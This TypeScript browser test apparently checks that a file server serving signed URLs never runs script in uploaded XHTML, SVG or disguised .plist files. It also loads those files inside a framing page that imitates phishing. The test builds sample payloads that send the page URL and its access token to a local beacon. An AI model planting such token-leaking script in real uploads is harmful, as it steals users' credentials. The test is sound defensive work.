/**
 * Issue 10 §8 in real Chromium: an uploaded XHTML `.plist` (and an XHTML/SVG file under other
 * names) opened through its signed URL, top-level or framed, never runs script on the
 * distribution origin. The script would call a beacon on 127.0.0.1 with the page's URL (and so
 * the token); the beacon must never hear from it. Needs /usr/bin/chromium; fails, never skips.
 */
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { RunningServer } from '../../src/app/serve.js';
import { makeKey, sign, startQuiet } from '../server/serve-helpers.js';
import { type ConsoleBrowser, openBrowser } from './harness.mjs';

let dir: string;
let server: RunningServer;
let beacon: Server;
let beaconUrl: string;
const heard: string[] = [];
let ui: ConsoleBrowser;
let token: string;

const xhtml = (src: string) => `<?xml version="1.0"?>
<html xmlns="http://www.w3.org/1999/xhtml"><head><title>inert</title></head><body>
<script>new Image().src = '${src}?' + encodeURIComponent(location.href); document.title = 'ran';</script>
<img src="${src}?img" />
</body></html>
`;
const svg = (src: string) => `<svg xmlns="http://www.w3.org/2000/svg">
<script>new Image().src = '${src}?' + encodeURIComponent(location.href)</script></svg>
`;

beforeAll(async () => {
  beacon = createServer((req, res) => {
    if (req.url?.startsWith('/frame')) {
      // A page of another origin framing the signed URL, as a phishing page would.
      res.writeHead(200, { 'content-type': 'text/html' });
      res.end(`<iframe src="${decodeURIComponent(req.url.slice('/frame?'.length))}"></iframe>`);
      return;
    }
    if (req.url === '/control.xhtml') {
      // The same document from an origin that sets no policy: proves the probe itself works.
      res.writeHead(200, { 'content-type': 'application/xhtml+xml' });
      res.end(xhtml(`${beaconUrl}/beacon/control`));
      return;
    }
    if (req.url?.startsWith('/beacon/')) heard.push(req.url);
    res.writeHead(204).end();
  });
  await new Promise<void>((r) => beacon.listen(0, '127.0.0.1', r));
  beaconUrl = `http://127.0.0.1:${(beacon.address() as AddressInfo).port}`;
  dir = mkdtempSync(join(tmpdir(), 'portcullis-sandbox-'));
  mkdirSync(join(dir, 'apps'));
  writeFileSync(join(dir, 'apps', 'manifest.plist'), xhtml(`${beaconUrl}/beacon/plist`));
  writeFileSync(join(dir, 'apps', 'page.xhtml'), xhtml(`${beaconUrl}/beacon/xhtml`));
  writeFileSync(join(dir, 'apps', 'page.html'), xhtml(`${beaconUrl}/beacon/html`));
  writeFileSync(join(dir, 'apps', 'image.svg'), svg(`${beaconUrl}/beacon/svg`));
  const key = makeKey();
  server = await startQuiet({
    root: dir,
    keySource: { load: async () => [{ key: key.publicKey }], describe: () => 'k' },
  });
  token = sign(key);
  ui = await openBrowser();
}, 90_000);

afterAll(async () => {
  await ui?.close();
  await server?.close();
  await new Promise((r) => beacon?.close(r));
  if (dir) rmSync(dir, { recursive: true, force: true });
});

describe('content opened in Chromium (issue 10 §8)', () => {
  it('control: the same document from an origin without the policy does run its script', async () => {
    const page = await ui.context.newPage();
    try {
      await page.goto(`${beaconUrl}/control.xhtml`);
    } finally {
      await page.close();
    }
    await expect.poll(() => heard.some((h) => h.startsWith('/beacon/control'))).toBe(true);
    heard.length = 0;
  });

  for (const name of ['manifest.plist', 'page.xhtml', 'page.html', 'image.svg']) {
    it(`${name} through its signed URL runs no script, top-level or framed`, async () => {
      const url = `${server.url}/apps/${name}?token=${token}`;
      const page = await ui.context.newPage();
      try {
        const download = page.waitForEvent('download', { timeout: 10_000 }).catch(() => null);
        await page.goto(url).catch(() => {
          // an attachment navigation ends in a download, which goto reports as an abort
        });
        await download;
        await page.goto(`${beaconUrl}/frame?${encodeURIComponent(url)}`);
        await page.waitForTimeout(500);
        expect(await page.title()).not.toBe('ran');
        for (const frame of page.frames()) {
          expect(await frame.evaluate(() => document.title).catch(() => '')).not.toBe('ran');
        }
      } finally {
        await page.close();
      }
      expect(heard, JSON.stringify(heard)).toEqual([]);
    });
  }
});
